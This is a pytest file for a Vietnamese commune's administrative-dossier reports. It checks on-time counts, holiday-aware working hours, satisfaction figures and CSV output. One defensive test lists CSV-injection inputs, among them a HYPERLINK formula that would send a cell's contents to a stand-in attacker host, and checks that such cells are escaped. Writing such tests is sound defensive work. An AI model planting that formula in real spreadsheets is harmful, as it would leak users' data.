"""Report figures on hand-made histories: each boundary of the definitions in docs/reports.md."""

from __future__ import annotations

import csv
import io
from datetime import date, datetime

import pytest

from shared.errors import TaiChoError
from shared.reports import (
    DossierFacts,
    Outcome,
    Period,
    Rating,
    Supplement,
    csv_cell,
    csv_file,
    csv_rows,
    due_after_supplements,
    page_view,
    parse_period,
    report_series,
    summarize,
    summarize_by_procedure,
    working_hours,
)
from shared.workdays import VN_TZ, due_at

# Mon 23 – Sun 29 Nov 2026; Tue 24 Nov is a public holiday (Ngày Văn hóa Việt Nam, from
# 2026), so that week is a good test of the calendar too; 30 Nov is the next Monday.
WEEK = Period(date(2026, 11, 23), date(2026, 11, 29))
LATER = datetime(2026, 12, 15, 9, 0, tzinfo=VN_TZ)


def at(m: int, d: int, hh: int = 9, mm: int = 0, y: int = 2026) -> datetime:
    return datetime(y, m, d, hh, mm, tzinfo=VN_TZ)


_n = iter(range(1, 10_000))


def facts(
    received: datetime,
    *,
    days: int = 0,
    outcome: Outcome | None = None,
    resolved: datetime | None = None,
    returned: datetime | None = None,
    procedure: str = "2.000815",
    channel: str = "counter",
    supplements: tuple[Supplement, ...] = (),
    refusal: str | None = None,
    rating: Rating | None = None,
    apologies: tuple[datetime, ...] = (),
) -> DossierFacts:
    """A dossier whose due time follows the handbook's rule (restarted by supplements)."""
    return DossierFacts(
        code=f"H-{next(_n):04d}",
        procedure=procedure,
        channel=channel,
        received_at=received,
        due_at=due_after_supplements(received, supplements, days),
        outcome=outcome,
        resolved_at=resolved,
        returned_at=returned,
        supplements=supplements,
        refusal_reason=refusal,
        rating=rating,
        apologies=apologies,
    )


def stamped(received: datetime, done: datetime, **kw: object) -> DossierFacts:
    return facts(received, outcome=Outcome.RESULT, resolved=done, returned=done, **kw)  # type: ignore[arg-type]


def test_returned_at_1659_on_the_due_day_is_on_time_1701_is_late() -> None:
    mon = at(11, 23, 9)  # same-day procedure: due Mon 17:00
    s = summarize([stamped(mon, at(11, 23, 16, 59)), stamped(mon, at(11, 23, 17, 1))], WEEK, LATER)
    assert (s.resolved["early"], s.resolved["on_time"], s.resolved["late"]) == (0, 1, 1)
    assert s.resolved["rates"]["on_time"] == 50.0
    assert s.resolved["rates"]["early_or_on_time"] == 50.0


def test_early_is_before_the_due_day() -> None:
    mon = at(11, 23, 9)  # 3 working days (Tuesday is a holiday): due Fri 27 Nov 17:00
    assert due_at(mon, 3) == at(11, 27, 17)
    s = summarize(
        [stamped(mon, at(11, 26, 10), days=3), stamped(mon, at(11, 27, 8), days=3)], WEEK, LATER
    )
    assert (s.resolved["early"], s.resolved["on_time"], s.resolved["late"]) == (1, 1, 0)


def test_a_supplement_restarts_the_clock() -> None:
    mon = at(11, 23, 9)  # 1 working day: due Wed 17:00 without a supplement (Tue off)
    supp = (Supplement(at(11, 23, 10), "Thiếu bản sao giấy chứng sinh", at(11, 25, 9)),)
    f = stamped(mon, at(11, 26, 16), days=1, supplements=supp)
    assert f.due_at == at(11, 26, 17)  # Wed 9:00 + 1 working day
    s = summarize([f], WEEK, LATER)
    assert s.resolved["on_time"] == 1 and s.resolved["late"] == 0
    assert s.supplements["requests"] == 1 and s.supplements["dossiers"] == 1
    assert s.supplements["reasons"] == [{"reason": "Thiếu bản sao giấy chứng sinh", "count": 1}]
    # The same history without the restart would have been late.
    plain = stamped(mon, at(11, 26, 16), days=1)
    assert summarize([plain], WEEK, LATER).resolved["late"] == 1


def test_a_dossier_waiting_for_its_supplement_is_neither_due_nor_overdue() -> None:
    f = facts(at(11, 23, 9), supplements=(Supplement(at(11, 23, 10), "Thiếu ảnh"),))
    s = summarize([f], WEEK, LATER)
    assert s.in_progress == {"total": 1, "not_yet_due": 0, "overdue": 0, "awaiting_supplement": 1}


def test_a_refused_dossier_is_resolved_but_neither_early_nor_late() -> None:
    f = facts(
        at(11, 23, 9),
        outcome=Outcome.REFUSED,
        resolved=at(11, 24, 9),
        refusal="Không thuộc thẩm quyền",
    )
    s = summarize([f, stamped(at(11, 23, 9), at(11, 23, 10))], WEEK, LATER)
    r = s.resolved
    assert (r["total"], r["refused"], r["early"], r["on_time"], r["late"]) == (2, 1, 0, 1, 0)
    assert r["rates"]["refused"] == 50.0 and r["rates"]["early_or_on_time"] == 100.0
    assert s.refusals == {"total": 1, "reasons": [{"reason": "Không thuộc thẩm quyền", "count": 1}]}


def test_holidays_are_not_working_time() -> None:
    # Wed 29 Apr 2026, 1 working day: 30 Apr and 1 May are holidays, then a weekend.
    wed = at(4, 29, 9)
    assert due_at(wed, 1) == at(5, 4, 17)
    done = at(5, 4, 16)
    period = Period(date(2026, 4, 27), date(2026, 5, 10))
    s = summarize([stamped(wed, done, days=1)], period, LATER)
    assert s.resolved["on_time"] == 1
    # 9:00–11:30 + 13:30–17:00 on Wednesday, 7:30–11:30 + 13:30–16:00 on Monday.
    assert working_hours(wed, done) == pytest.approx(12.5)
    assert s.turnaround_hours == {"count": 1, "median": 12.5, "p90": 12.5}


def test_working_hours_skip_lunch_and_nights() -> None:
    assert working_hours(at(11, 23, 11), at(11, 23, 14)) == pytest.approx(1.0)
    assert working_hours(at(11, 25, 16), at(11, 26, 8)) == pytest.approx(1.5)
    assert working_hours(at(11, 23, 16), at(11, 24, 10)) == pytest.approx(1.0)  # holiday
    assert working_hours(at(11, 27, 16), at(11, 30, 7)) == pytest.approx(1.0)  # Fri → Mon
    assert working_hours(at(11, 28, 10), at(11, 28, 12)) == 0.0  # Saturday


def test_received_counts_carried_over_and_new_by_channel() -> None:
    old_open = facts(at(11, 20, 9), days=5)  # Fri before: carried over
    old_done = stamped(at(11, 20, 9), at(11, 20, 10))  # closed before the week: not counted
    home = facts(at(11, 24, 9), days=5, channel="home_visit")
    counter = facts(at(11, 24, 9), days=5)
    odd = facts(at(11, 24, 9), days=5, channel="post")
    after = facts(at(11, 30, 9))  # next week
    s = summarize([old_open, old_done, home, counter, odd, after], WEEK, LATER)
    assert s.received == {
        "total": 4,
        "carried_over": 1,
        "new": 3,
        "new_by_channel": {"counter": 1, "home_visit": 1, "other": 1},
    }


def test_in_progress_not_yet_due_and_overdue_at_the_end_of_the_period() -> None:
    overdue = facts(at(11, 23, 9))  # due Mon 17:00, still open
    not_due = facts(at(11, 27, 9), days=5)  # due next week
    resolved_after = stamped(at(11, 23, 9), at(12, 1, 9))  # open at the end of the week
    s = summarize([overdue, not_due, resolved_after], WEEK, LATER)
    assert s.in_progress == {"total": 3, "not_yet_due": 1, "overdue": 2, "awaiting_supplement": 0}
    assert [o["code"] for o in s.overdue] == sorted([overdue.code, resolved_after.code])
    # Judged now (mid-period), the Monday dossier is not yet overdue at 10:00.
    s_now = summarize([overdue], WEEK, at(11, 23, 10))
    assert s_now.in_progress["not_yet_due"] == 1 and s_now.as_of.startswith("2026-11-23T10:00")


def test_received_equals_resolved_plus_withdrawn_plus_in_progress() -> None:
    fs = [
        stamped(at(11, 23, 9), at(11, 23, 11)),
        facts(at(11, 23, 9), outcome=Outcome.WITHDRAWN, resolved=at(11, 23, 12)),
        facts(at(11, 23, 9), outcome=Outcome.REFUSED, resolved=at(11, 24, 12), refusal="x"),
        facts(at(11, 20, 9), days=10),
        facts(at(11, 25, 9), supplements=(Supplement(at(11, 25, 10)),)),
    ]
    s = summarize(fs, WEEK, LATER)
    assert s.withdrawn == 1
    assert s.received["total"] == s.resolved["total"] + s.withdrawn + s.in_progress["total"] == 5


def test_same_day_and_first_visit() -> None:
    mon = at(11, 23, 8)
    fs = [
        stamped(mon, at(11, 23, 10)),  # same day, first visit
        stamped(  # same day after a supplement the citizen brought the same morning
            mon,
            at(11, 23, 15),
            supplements=(Supplement(at(11, 23, 9), "Thiếu", at(11, 23, 10)),),
        ),
        stamped(mon, at(11, 25, 10), days=1),  # another day
        facts(mon, outcome=Outcome.RESULT, resolved=at(11, 23, 11)),  # stamped, not returned
    ]
    s = summarize(fs, WEEK, LATER)
    assert s.same_day == {
        "returned": 3,
        "same_day": 2,
        "same_day_rate": 66.7,
        "first_visit": 1,
        "first_visit_rate": 33.3,
    }
    assert s.resolved["total"] == 4  # stamped = result ready = resolved


def test_turnaround_median_and_p90_in_working_hours() -> None:
    mon = at(11, 23, 8)
    ends = [at(11, 23, h) for h in (9, 10, 11)] + [at(11, 23, 14), at(11, 25, 8)]
    s = summarize([stamped(mon, e, days=2) for e in ends], WEEK, LATER)
    # 1, 2, 3, 4 (lunch skipped), 7.5 (7 on Monday from 8:00, the Tuesday holiday, 0.5 on
    # Wednesday) working hours.
    assert s.turnaround_hours == {"count": 5, "median": 3.0, "p90": 7.5}


def test_satisfaction_levels_rate_and_comments() -> None:
    mon = at(11, 23, 8)
    rated = [
        stamped(mon, at(11, 23, 9), rating=Rating("very_satisfied", at(11, 23, 9))),
        stamped(mon, at(11, 23, 9), rating=Rating("satisfied", at(11, 23, 9), "Nhanh, chu đáo")),
        stamped(mon, at(11, 23, 9), rating=Rating("unsatisfied", at(11, 23, 9), "Chờ lâu quá")),
        stamped(mon, at(11, 23, 9)),
    ]
    s = summarize(rated, WEEK, LATER).satisfaction
    assert (s["total"], s["very_satisfied"], s["satisfied"], s["unsatisfied"]) == (3, 1, 1, 1)
    assert s["rate"] == 66.7
    assert sorted(c["comment"] for c in s["comments"]) == ["Chờ lâu quá", "Nhanh, chu đáo"]


def test_apology_letters_in_the_period() -> None:
    f = facts(at(11, 23, 9), apologies=(at(11, 23, 16), at(11, 30, 9)))
    assert summarize([f], WEEK, LATER).apology_letters == 1


def test_procedure_filter_and_breakdown() -> None:
    a = stamped(at(11, 23, 9), at(11, 23, 10), procedure="2.000815")
    b = stamped(at(11, 23, 9), at(11, 23, 18), procedure="1.001193")
    assert summarize([a, b], WEEK, LATER, "1.001193").resolved["late"] == 1
    per = summarize_by_procedure([a, b], WEEK, LATER)
    assert list(per) == ["1.001193", "2.000815"]
    assert per["2.000815"].resolved["on_time"] == 1


def test_series_by_week_and_month() -> None:
    period = Period(date(2026, 11, 25), date(2026, 12, 8))  # Wed … Tue: 3 weeks, 2 months
    fs = [
        stamped(at(11, 25, 9), at(11, 25, 10), rating=Rating("satisfied", at(11, 25, 10))),
        stamped(at(11, 25, 9), at(11, 26, 10), rating=Rating("unsatisfied", at(11, 26, 10))),
        stamped(
            at(12, 7, 9), at(12, 7, 10), days=2, rating=Rating("very_satisfied", at(12, 7, 10))
        ),
    ]
    series = report_series(fs, period)
    assert [w["label"] for w in series.timeliness_by_week] == ["25/11", "30/11", "07/12"]
    assert [(w["early"], w["on_time"], w["late"]) for w in series.timeliness_by_week] == [
        (0, 1, 1),
        (0, 0, 0),
        (1, 0, 0),
    ]
    assert [w["rate"] for w in series.same_day_by_week] == [50.0, None, 100.0]
    assert [(m["label"], m["rate"]) for m in series.satisfaction_by_month] == [
        ("11/2026", 50.0),
        ("12/2026", 100.0),
    ]


def test_period_parsing_names_the_field() -> None:
    assert parse_period("2026-11-01", "2026-11-30") == Period(date(2026, 11, 1), date(2026, 11, 30))
    for args, field in ((("2026-13-01", "2026-11-30"), "from"), (("2026-11-01", None), "to")):
        with pytest.raises(TaiChoError) as e:
            parse_period(*args)
        assert e.value.field == field
    with pytest.raises(TaiChoError) as e:
        parse_period("2026-11-30", "2026-11-01")
    assert e.value.field == "to" and e.value.status == 400


def test_page_view_and_csv_rows_speak_vietnamese() -> None:
    fs = [stamped(at(11, 23, 9), at(11, 23, 10), rating=Rating("satisfied", at(11, 23, 10), "Tốt"))]
    s = summarize(fs, WEEK, LATER)
    per = summarize_by_procedure(fs, WEEK, LATER)
    names = {"2.000815": "Chứng thực bản sao từ bản chính"}
    page = page_view(s, per, report_series(fs, WEEK), names, "Ủy ban nhân dân xã Lai Vung")
    assert page["period"] == "Từ ngày 23/11/2026 đến ngày 29/11/2026"
    assert {"label": "Nhận và trả trong ngày", "value": "100,0 %"} in page["tiles"]
    assert page["procedures"][0]["name"] == names["2.000815"]
    rows = csv_rows(s, per, names)
    buf = io.StringIO()
    csv.writer(buf).writerows(rows)
    back = list(csv.reader(io.StringIO(buf.getvalue())))
    assert back == rows
    assert ["Ý kiến", "Hài lòng", fs[0].code, "Tốt"] in back
    assert any(r[0].startswith("2.000815 Chứng thực") for r in back)


def test_period_picker() -> None:
    from shared.reports import period_of

    d = date(2026, 11, 25)  # a Wednesday
    assert period_of("day", d) == Period(d, d)
    assert period_of("week", d) == Period(date(2026, 11, 23), date(2026, 11, 29))
    assert period_of("month", d) == Period(date(2026, 11, 1), date(2026, 11, 30))
    assert period_of("quarter", d) == Period(date(2026, 10, 1), date(2026, 12, 31))
    assert period_of("year", d) == Period(date(2026, 1, 1), date(2026, 12, 31))
    assert period_of("month", date(2026, 2, 3)).end == date(2026, 2, 28)
    with pytest.raises(TaiChoError):
        period_of("decade", d)


@pytest.mark.parametrize(
    "cell",
    [
        '=HYPERLINK("http://evil.example/?d="&A1,"Xem")',
        "+1+2",
        "-2+3",
        "@SUM(1,1)",
        "\t=1+1",
        "\r=1+1",
        "＝1+1",
    ],
)
def test_a_cell_that_would_start_a_formula_gets_an_apostrophe(cell: str) -> None:
    """OWASP CSV injection (issue 22 §2): the cell reads back as text with a leading '."""
    assert csv_cell(cell) == "'" + cell
    back = list(csv.reader(io.StringIO(csv_file([["x", cell]]).decode("utf-8-sig"))))
    assert back == [["x", "'" + cell]]


def test_ordinary_cells_are_left_alone() -> None:
    for cell in ("12", "75,0 %", "Hồ sơ không đủ", "", "– Tại nhà", "1.001193 Khai sinh"):
        assert csv_cell(cell) == cell
    assert csv_file([["a", "b"], []]) == "\ufeffa,b\r\n\r\n".encode()
